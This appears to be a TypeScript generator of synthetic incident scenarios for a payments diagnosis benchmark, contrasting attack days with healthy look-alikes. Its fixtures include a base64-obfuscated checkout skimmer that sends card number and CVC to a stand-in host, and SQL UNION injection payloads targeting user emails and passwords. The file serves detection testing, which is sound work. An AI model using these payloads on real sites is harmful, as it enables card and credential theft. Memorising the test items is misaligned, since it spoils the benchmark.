/** Attacks, and days that only look like one. */
import { createHash } from 'node:crypto';
import { EDGES } from '../edges.ts';
import { deployed, failing, leaf, served, trusted } from '../frame.ts';
import type { Incident } from '../types.ts';
import { DAY, HOUR, MINUTE, type World } from '../world.ts';
import { signedHalves } from './messages.ts';

const hash = (text: string): string => createHash('sha256').update(text).digest('hex');
const bot = (w: World): string =>
  `${w.random.between(31, 99)}.${w.random.between(1, 250)}.${w.random.between(1, 250)}.${w.random.between(1, 250)}`;
const SCRIPT = `/* checkout */\n(function (w, d) {\n  'use strict';\n  var f = d.getElementById('card-form');\n  f.addEventListener('submit', function () { w.pay.tokenize(f); });\n})(window, document);\n`;

/** A request that came from a page, in a log that says so whatever the balancer in front writes. */
const referred = (w: World, t: number, r: Parameters<World['access']>[1]): void =>
  w.log('web/access.log', t, EDGES.nginx.access(w, t, r));

function tries(
  w: World,
  count: number,
  seconds: number,
  make: (i: number) => {
    bin: string;
    card: string;
    expiry?: string;
    amount: number;
    ip: string;
    approved?: boolean;
    code?: string;
  },
): void {
  for (let i = 0; i < count; i++) {
    const m = make(i);
    w.rows.push({
      time: w.onset + i * seconds * 1000 + w.random.between(0, 700),
      order: `T${880_000 + i}`,
      payment: `pay_${w.random.hex(10)}`,
      merchant: w.merchants[1]!,
      node: w.nodes[i % w.nodes.length]!.name,
      route: w.routes[0]!,
      bin: m.bin,
      last4: w.random.digits(4),
      card: m.card,
      expiry: m.expiry ?? `${w.random.between(27, 31)}${String(w.random.between(1, 12)).padStart(2, '0')}`,
      amount: m.amount,
      code: m.approved ? '00' : (m.code ?? w.random.pick(['05', '14', '54', '82'])),
      http: '200',
      status: m.approved ? 'ok' : 'declined',
      latency: w.random.between(90, 400),
      client: m.ip,
      user: '',
      device: `d-${w.random.hex(3)}`,
    });
    w.access(w.onset + i * seconds * 1000, {
      client: m.ip,
      request: 'POST /api/pay HTTP/1.1',
      status: 200,
      agent: 'python-requests/2.32.3',
      referer: '-',
    });
  }
}

/** The egress table of the hosts, in which one calls the same place every minute. */
function callsOut(w: World, to: string, port: number, allowed = false): void {
  const host = w.nodes[1]!.ip;
  const lines: string[] = ['time,src,dst,dport,bytes_out,bytes_in,action'];
  const flows: { t: number; text: string }[] = [];
  w.each(w.start, w.now, 7, (t, i) =>
    flows.push({
      t,
      text: `${w.nodes[i % w.nodes.length]!.ip},${w.gateway.ip},443,${w.random.between(800, 4000)},${w.random.between(600, 9000)},ALLOW`,
    }),
  );
  for (let t = w.onset; t < w.now; t += 60_000) flows.push({ t, text: `${host},${to},${port},412,96,ALLOW` });
  flows.sort((a, b) => a.t - b.t);
  w.put(
    'data',
    'egress.csv',
    `${[...lines, ...flows.map((f) => `${new Date(f.t).toISOString()},${f.text}`)].join('\n')}\n`,
  );
  w.put(
    'meta',
    'egress-allowed.yaml',
    `egress_allowed:\n  - {dst: ${w.gateway.ip}, port: 443, why: gateway}\n  - {dst: ${w.bank.ip}, port: ${w.bank.port}, why: bank}\n${allowed ? `  - {dst: ${to}, port: ${port}, why: monitoring}\n` : ''}`,
  );
}

export const ATTACKS: Incident[] = [
  {
    name: 'stolen cards tried with small amounts',
    causes: ['card-testing'],
    owners: ['risk'],
    unlike: ['card-enumeration', 'issuer-decline-storm', 'request-flood', 'credential-stuffing'],
    tell(w) {
      w.pay();
      const ips = Array.from({ length: 7 }, () => bot(w));
      tries(w, 260, 5, (i) => ({
        bin: w.random.pick(['400000', '510510', '424242', '555555', '401200', '520082', '222300']),
        card: `fp_${hash(`t${i}`).slice(0, 12)}`,
        amount: 1,
        ip: ips[i % 7]!,
        approved: i % 20 === 0,
      }));
    },
  },
  {
    name: 'numbers of one range tried one after the other',
    causes: ['card-enumeration'],
    owners: ['risk'],
    unlike: ['issuer-decline-storm', 'request-flood', 'credential-stuffing'],
    tell(w) {
      w.pay();
      tries(w, 300, 4, (i) => ({
        bin: '453201',
        card: `fp_${hash(`e${i}`).slice(0, 12)}`,
        amount: 9.9,
        ip: bot(w),
        code: '14',
      }));
    },
  },
  {
    name: 'expiry dates of a few cards tried',
    causes: ['card-enumeration'],
    owners: ['risk'],
    unlike: ['issuer-decline-storm', 'request-flood', 'card-testing'],
    tell(w) {
      w.pay();
      tries(w, 240, 5, (i) => ({
        bin: '453201',
        card: `fp_${hash(`v${i % 6}`).slice(0, 12)}`,
        expiry: `${26 + (((i / 6) % 5) | 0)}${String(1 + (((i / 30) % 12) | 0)).padStart(2, '0')}`,
        amount: 12,
        ip: bot(w),
        code: '54',
      }));
    },
  },
  {
    name: 'checkout script sends card fields elsewhere',
    causes: ['web-skimmer'],
    owners: ['sec'],
    unlike: ['card-data-in-logs', 'injection-attack', 'phishing-clone'],
    tell(w) {
      const evil = SCRIPT.replace(
        '})(window',
        "  f.addEventListener('change', function(){new Image().src=atob('aHR0cHM6Ly9jZG4tbWV0cmljcy5leGFtcGxlLm5ldC9wLmdpZj8=')+btoa(f.cardnumber.value+'|'+f.cvc.value);});\n})(window",
      );
      w.files.set('web/checkout.js', evil);
      w.files.set('web/baseline/checkout.js', SCRIPT);
      w.put(
        'meta',
        'files.txt',
        `# mode owner:group size mtime path\n-rw-r--r-- deploy:www ${evil.length} ${new Date(w.onset).toISOString()} /srv/www/static/js/checkout.js\n-rw-r--r-- deploy:www 4100 ${new Date(w.onset - 30 * DAY).toISOString()} /srv/www/index.html\n`,
      );
      w.pay();
      w.each(w.onset + 30_000, w.now, 120, (t) =>
        w.log(
          'csp.jsonl',
          t,
          JSON.stringify({
            received: new Date(t).toISOString(),
            'csp-report': {
              'document-uri': `https://${w.site}/checkout`,
              'effective-directive': 'img-src',
              'violated-directive': 'img-src',
              'blocked-uri': 'https://cdn-metrics.example.net',
              disposition: 'report',
            },
          }),
        ),
      );
    },
  },
  {
    name: 'uploaded file answers one address',
    causes: ['web-shell'],
    owners: ['sec'],
    unlike: ['request-flood', 'injection-attack', 'card-testing'],
    tell(w) {
      w.pay();
      const ip = bot(w);
      w.access(w.onset, {
        client: ip,
        request: 'POST /upload/avatar HTTP/1.1',
        status: 200,
        bytes: 44,
        agent: 'Mozilla/5.0',
        referer: '-',
      });
      w.each(w.onset + 60_000, w.now, 25, (t) =>
        w.access(t, {
          client: ip,
          request: 'POST /static/uploads/2026/thumb_88.php HTTP/1.1',
          status: 200,
          bytes: w.random.between(400, 9000),
          agent: 'Mozilla/5.0',
          referer: '-',
        }),
      );
      w.put(
        'meta',
        'files.txt',
        `# mode owner:group size mtime path\n-rw-r--r-- www-data:www-data 1931 ${new Date(w.onset).toISOString()} /srv/www/static/uploads/2026/thumb_88.php\n-rw-r--r-- deploy:www 4100 ${new Date(w.onset - 30 * DAY).toISOString()} /srv/www/index.html\n`,
      );
    },
  },
  {
    name: 'passwords from a list tried from many addresses',
    causes: ['credential-stuffing'],
    owners: ['sec', 'risk'],
    unlike: ['request-flood', 'card-testing', 'injection-attack'],
    tell(w) {
      w.pay();
      w.each(w.onset, w.now, 1.5, (t, i) => {
        const ip = bot(w);
        const ok = i % 80 === 7;
        w.access(t, {
          client: ip,
          request: 'POST /api/login HTTP/1.1',
          status: ok ? 200 : 401,
          bytes: ok ? 612 : 71,
          agent: 'okhttp/4.9.1',
          referer: '-',
        });
        w.app(
          w.nodes[i % w.nodes.length]!,
          t + 2,
          ok ? 'INFO' : 'WARN',
          ok
            ? `login ok user=c${70_000 + i * 3} ip=${ip}`
            : `login failed user=c${70_000 + i * 3} ip=${ip} reason=bad_credentials`,
        );
      });
    },
  },
  {
    name: 'search page flooded',
    causes: ['request-flood'],
    owners: ['net', 'sec', 'ops'],
    unlike: ['card-testing', 'upstream-slow', 'descriptor-exhausted', 'web-shell', 'throttled'],
    tell(w) {
      w.pay((a) =>
        a.after && a.index % 3
          ? {
              text: 'request to http://app:8080/pay aborted: 503 Service Unavailable from edge',
              http: '503',
              status: 'error',
            }
          : undefined,
      );
      w.each(w.onset, w.now, 0.12, (t, i) =>
        w.access(t, {
          client: bot(w),
          request: `GET /search?q=${w.random.hex(6)} HTTP/1.1`,
          status: i % 4 ? 503 : 200,
          bytes: 190,
          agent: 'Mozilla/5.0 (compatible)',
          referer: '-',
        }),
      );
    },
  },
  {
    name: 'one service is shown a certificate of an unknown authority',
    causes: ['forged-certificate'],
    owners: ['sec', 'net'],
    unlike: ['ca-untrusted', 'intermediate-missing', 'pin-mismatch', 'self-signed-served', 'inspection-ca-expired'],
    tell(w) {
      const { root, middle } = w.authority();
      served(w, w.gateway.host, leaf(w, { issuer: middle }), middle);
      trusted(w, root);
      const rogue = w.certificate({
        subject: { O: 'Proxy Services', CN: 'Secure Web CA' },
        notBefore: w.onset - 2 * DAY,
        notAfter: w.onset + 300 * DAY,
        ca: true,
      });
      const fake = w.certificate({
        subject: { CN: w.gateway.host },
        issuer: rogue,
        notBefore: w.onset - HOUR,
        notAfter: w.onset + 80 * DAY,
        names: [w.gateway.host],
        usage: 'server',
      });
      const bad = w.nodes[1]!;
      w.put('certs', `seen-from-${bad.name}.pem`, fake.cert + rogue.cert);
      w.pay(failing(w, 'selfSignedInChain', { when: (a) => a.node === bad }));
    },
  },
  {
    name: 'look-alike shop hot-links our pictures',
    causes: ['phishing-clone'],
    owners: ['sec'],
    unlike: ['web-skimmer', 'forged-certificate', 'request-flood'],
    tell(w) {
      w.pay();
      const clone = `www.${w.shopName.replace(/[aeio]/, '0')}-shop.top.test`;
      w.each(w.onset, w.now, 8, (t, i) =>
        referred(w, t, {
          request: [
            'GET /static/css/main.css HTTP/1.1',
            'GET /static/img/logo.svg HTTP/1.1',
            'GET /static/js/checkout.js HTTP/1.1',
          ][i % 3]!,
          status: 200,
          referer: `https://${clone}/checkout`,
        }),
      );
      w.put(
        'meta',
        'tickets.csv',
        `time;channel;text\n${new Date(w.onset + 12 * MINUTE).toISOString()};mail;I paid at https://${clone}/ but there is no order\n${new Date(w.onset + 16 * MINUTE).toISOString()};phone;is ${clone} yours? got the link by SMS\n${new Date(w.onset - 20 * HOUR).toISOString()};mail;where is my invoice\n`,
      );
    },
  },
  {
    name: 'union query that answers',
    causes: ['injection-attack'],
    owners: ['sec', 'app'],
    unlike: ['web-shell', 'request-flood', 'credential-stuffing'],
    tell(w) {
      w.pay();
      const ip = bot(w);
      w.each(w.onset, w.onset + 20 * MINUTE, 6, (t, i) => {
        w.access(t, {
          client: ip,
          request: `GET /c/search?q=1%27%20UNION%20SELECT%20${'null,'.repeat(i % 6)}email,pwd%20FROM%20users--%20${i} HTTP/1.1`,
          status: i < 25 ? 500 : 200,
          bytes: i < 25 ? 1240 : 52_000 + i * 97,
          agent: 'sqlmap/1.8.2#stable',
          referer: '-',
        });
        if (i < 25)
          w.app(
            w.nodes[0]!,
            t,
            'ERROR',
            'search failed: You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near UNION SELECT',
          );
      });
    },
  },
  {
    name: 'old notification delivered again and again',
    causes: ['notification-replay'],
    owners: ['app', 'sec'],
    unlike: ['duplicate-payment', 'provider-key-rotated', 'webhook-body-altered'],
    tell(w) {
      w.pay();
      const ip = bot(w);
      const old = Math.floor((w.onset - 3 * HOUR) / 1000);
      w.each(w.start, w.now, 20, (t, i) =>
        w.app(
          w.nodes[i % 2]!,
          t,
          'INFO',
          `notification accepted notify_id=${w.random.hex(16)} nonce=${w.random.hex(12)} timestamp=${Math.floor(t / 1000)} ip=203.0.113.9 order=N${i} credited=1`,
        ),
      );
      w.each(w.onset, w.now, 45, (t, i) => {
        w.app(
          w.nodes[i % 2]!,
          t,
          'INFO',
          `notification accepted notify_id=9d3fa0b1c2d3e4f5 nonce=aa17be90cd12 timestamp=${old} ip=${ip} order=N7 credited=1`,
        );
        w.access(t, {
          client: ip,
          request: 'POST /notify/pay HTTP/1.1',
          status: 200,
          bytes: 7,
          agent: 'curl/8.4.0',
          referer: '-',
        });
      });
    },
  },
  {
    name: 'debug release logs whole cards',
    causes: ['card-data-in-logs'],
    owners: ['sec', 'app'],
    unlike: ['web-skimmer', 'card-testing', 'card-enumeration'],
    tell(w) {
      deployed(w, '[pay] release 5.3.0 (request logging for support)', 0);
      w.pay();
      w.each(w.onset, w.now, 15, (t, i) =>
        w.app(
          w.nodes[0]!,
          t,
          'INFO',
          `acquirer request {"pan":"${['4111111111111111', '5555555555554444', '4242424242424242', '378282246310005'][i % 4]}","exp":"12/28","cvc":"${100 + (i % 800)}","order":"D${i}"}`,
        ),
      );
    },
  },
  {
    name: 'host calls out every minute',
    causes: ['malware-beacon'],
    owners: ['sec'],
    unlike: ['request-flood', 'clock-skew', 'web-shell'],
    tell(w) {
      w.pay();
      callsOut(w, '45.155.205.33', 8531);
    },
  },
];

export const HEALTHY: Incident[] = [
  {
    name: 'healthy: certificate renewed in time',
    causes: [],
    unlike: ['server-cert-expired', 'pin-mismatch', 'forged-certificate', 'server-cert-not-yet-valid'],
    tell(w) {
      const { root, middle } = w.authority();
      w.put(
        'certs',
        'gateway-previous.pem',
        leaf(w, { issuer: middle, from: w.onset - 300 * DAY, to: w.onset + 5 * MINUTE }).cert,
      );
      served(w, w.gateway.host, leaf(w, { issuer: middle, from: w.onset - DAY }), middle);
      trusted(w, root);
      deployed(w, `certificate of ${w.gateway.host} renewed`, 60);
      w.pay();
    },
  },
  {
    name: 'healthy: expired certificate of a test system',
    causes: [],
    unlike: ['server-cert-expired', 'self-signed-served', 'client-cert-expired'],
    tell(w) {
      const { root, middle } = w.authority();
      const host = `sandbox.${w.shopName}.example.com`;
      w.put('certs', `${host}.pem`, leaf(w, { issuer: middle, names: [host], cn: host, to: w.onset - 20 * DAY }).cert);
      served(w, w.gateway.host, leaf(w, { issuer: middle }), middle);
      trusted(w, root);
      w.pay();
      w.each(w.start, w.now, 700, (t) =>
        w.app(w.nodes[0]!, t, 'WARN', `smoke test against https://${host}/ping failed: certificate has expired`),
      );
    },
  },
  {
    name: 'healthy: sale with many visitors',
    causes: [],
    unlike: ['request-flood', 'card-testing', 'throttled'],
    tell(w) {
      w.every = 3;
      w.change(w.onset, '[marketing] newsletter, 30 % voucher');
      w.pay();
      w.each(w.onset, w.now, 0.4, (t, i) =>
        w.access(t, {
          request: [
            'GET / HTTP/2.0',
            `GET /p/${w.random.between(1, 900)} HTTP/2.0`,
            'GET /cart HTTP/2.0',
            'GET /static/css/main.css HTTP/2.0',
            'POST /api/pay HTTP/2.0',
          ][i % 5]!,
          status: 200,
          bytes: w.random.between(300, 22_000),
        }),
      );
    },
  },
  {
    name: 'healthy: no funds at the end of the month',
    causes: [],
    unlike: ['issuer-decline-storm', 'card-testing', 'card-enumeration'],
    tell(w) {
      w.pay((a) => (a.after && a.index % 5 === 0 ? { code: '51', status: 'declined', http: '200' } : undefined));
    },
  },
  {
    name: 'healthy: scanners of the internet',
    causes: [],
    unlike: [
      'injection-attack',
      'web-shell',
      'client-tls-too-old',
      'no-common-cipher',
      'private-key-exposed',
      'plaintext-on-tls-port',
    ],
    tell(w) {
      w.pay();
      const ip = bot(w);
      w.each(w.onset, w.onset + 20 * MINUTE, 2, (t, i) => {
        w.access(t, {
          client: ip,
          request: [
            `GET /index.php?id=${i}%27%20UNION%20SELECT%201-- HTTP/1.1`,
            `GET /.env.${i} HTTP/1.1`,
            'GET /backup/site.key HTTP/1.1',
            'POST /uploads/x.php HTTP/1.1',
          ][i % 4]!,
          status: 404,
          bytes: 162,
          agent: 'Nuclei - Open-source project',
          referer: '-',
        });
        const text = w.edge.scanner(i, ip, w, t);
        if (text && i % 8 === 0) w.edgeError(t, 'info', text);
      });
    },
  },
  {
    name: 'healthy: planned maintenance of the bank, traffic moved before',
    causes: [],
    unlike: ['upstream-unavailable', 'connection-refused', 'health-check-wrong', 'connection-dropped'],
    tell(w) {
      w.routes = ['gateway', 'bank'];
      w.change(
        w.onset - 5 * MINUTE,
        `planned maintenance of ${w.bank.host}: route bank drained, all payments over gateway`,
      );
      w.pay(() => undefined, {
        route: (i) =>
          w.start + i * w.every * 1000 > w.onset - 5 * MINUTE ? 'gateway' : w.random.pick(['gateway', 'bank']),
      });
      w.each(w.onset, w.now, 60, (t) =>
        w.app(
          w.nodes[0]!,
          t,
          'WARN',
          `probe of https://${w.bank.host}:${w.bank.port}/health failed: Connection refused`,
        ),
      );
    },
  },
  {
    name: 'healthy: announced script change with its hash',
    causes: [],
    unlike: ['web-skimmer'],
    tell(w) {
      const next = SCRIPT.replace("'use strict';", "'use strict'; var theme = 'winter';");
      w.files.set('web/checkout.js', next);
      w.files.set('web/baseline/checkout.js', SCRIPT);
      w.put(
        'conf',
        'scripts-inventory.yaml',
        `scripts:\n  - {path: /static/js/checkout.js, sha256: ${hash(next)}, owner: pay, purpose: card form}\n`,
      );
      deployed(w, '[pay] checkout.js 4.3.0 (CHG-901), inventory updated', 0);
      w.pay();
    },
  },
  {
    name: 'healthy: customers who forgot their passwords',
    causes: [],
    unlike: ['credential-stuffing', 'request-flood'],
    tell(w) {
      w.pay();
      w.each(w.onset, w.now, 9, (t, i) => {
        const ip = `100.${w.random.between(64, 120)}.${w.random.between(0, 255)}.${w.random.between(1, 254)}`;
        for (let k = 0; k < 2; k++)
          w.access(t + k * 4000, { client: ip, request: 'POST /api/login HTTP/2.0', status: 401, bytes: 71 });
        w.access(t + 9000, { client: ip, request: 'POST /api/password/reset HTTP/2.0', status: 200, bytes: 90 });
        w.access(t + 40_000, { client: ip, request: 'POST /api/login HTTP/2.0', status: 200, bytes: 612 });
        if (i % 2) w.app(w.nodes[0]!, t, 'INFO', `login failed user=c${i} ip=${ip} reason=bad_credentials`);
      });
    },
  },
  {
    name: 'healthy: notifications delivered twice and ignored',
    causes: [],
    unlike: ['notification-replay', 'duplicate-payment', 'webhook-body-altered'],
    tell(w) {
      w.pay();
      w.each(w.onset, w.now, 25, (t, i) => {
        const id = w.random.hex(16);
        w.app(
          w.nodes[0]!,
          t,
          'INFO',
          `notification accepted notify_id=${id} nonce=${w.random.hex(12)} timestamp=${Math.floor(t / 1000)} ip=203.0.113.9 order=N${i} credited=1`,
        );
        w.app(
          w.nodes[1]!,
          t + 15_000,
          'INFO',
          `notification duplicate ignored notify_id=${id} nonce=${w.random.hex(12)} timestamp=${Math.floor(t / 1000) + 15} ip=203.0.113.9 order=N${i} credited=0`,
        );
      });
    },
  },
  {
    name: 'healthy: agent reports to the monitoring every minute',
    causes: [],
    unlike: ['malware-beacon', 'request-flood'],
    tell(w) {
      w.pay();
      callsOut(w, '198.18.7.20', 8443, true);
    },
  },
  {
    name: 'healthy: dual signatures that verify, a list refreshed',
    causes: [],
    unlike: ['dual-signature-broken', 'request-signature-wrong'],
    tell(w) {
      signedHalves(w, false);
      w.routes = ['set'];
      w.pay();
      w.app(
        w.nodes[0]!,
        w.onset,
        'WARN',
        'certificate thumbprint list refreshed errorCode=ThumbsMismatch action="resent full list"',
      );
    },
  },
  {
    name: 'healthy: an ordinary day',
    causes: [],
    unlike: [
      'idle-connection-reset',
      'upstream-slow',
      'pool-exhausted',
      'issuer-decline-storm',
      'source-blocked',
      'disk-full',
      'dns-stale',
      'mtu-black-hole',
      'request-signature-wrong',
    ],
    tell(w) {
      w.pay();
    },
  },
  {
    name: 'healthy: ordinary day without a payment table',
    causes: [],
    unlike: ['idle-connection-reset', 'upstream-slow', 'connection-refused', 'server-cert-expired', 'throttled'],
    tell(w) {
      w.pay(() => undefined, { noTable: true });
      w.each(w.start, w.now, 500, (t, i) =>
        w.app(
          w.nodes[i % 3]!,
          t,
          'ERROR',
          [
            'order lookup failed: java.net.SocketTimeoutException: Read timed out',
            'payment retry ok after socket hang up',
            'address check: connect ETIMEDOUT 198.18.4.9:443',
          ][i % 3]!,
        ),
      );
    },
  },
];
